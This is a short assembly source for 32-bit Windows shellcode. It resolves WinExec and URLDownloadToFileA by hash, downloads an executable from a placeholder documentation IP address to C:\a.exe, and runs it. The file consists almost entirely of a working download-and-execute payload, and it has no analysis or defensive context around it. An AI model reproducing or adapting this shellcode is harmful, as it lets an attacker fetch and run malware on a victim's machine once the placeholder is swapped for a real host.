; Windows, 32 bit: URLDownloadToFileA from a documentation address, then WinExec.
bits 32
%include "demo_resolve.inc"
%include "windows_calls.inc"
HASH win_exec, 'WinExec'
HASH download, 'URLDownloadToFileA'
        RESOLVER
        LOAD library
        xor ecx, ecx
        push ecx
        push ecx
        lea edx, AT(path)
        push edx
        lea edx, AT(url)
        push edx
        push ecx
        CALL_API eax, download
        push byte 0
        lea edx, AT(path)
        push edx
        CALL_API ebx, win_exec
        jmp short $
library: db 'urlmon', 0
url:    db 'http://192.0.2.77/a.exe', 0
path:   db 'C:\a.exe', 0
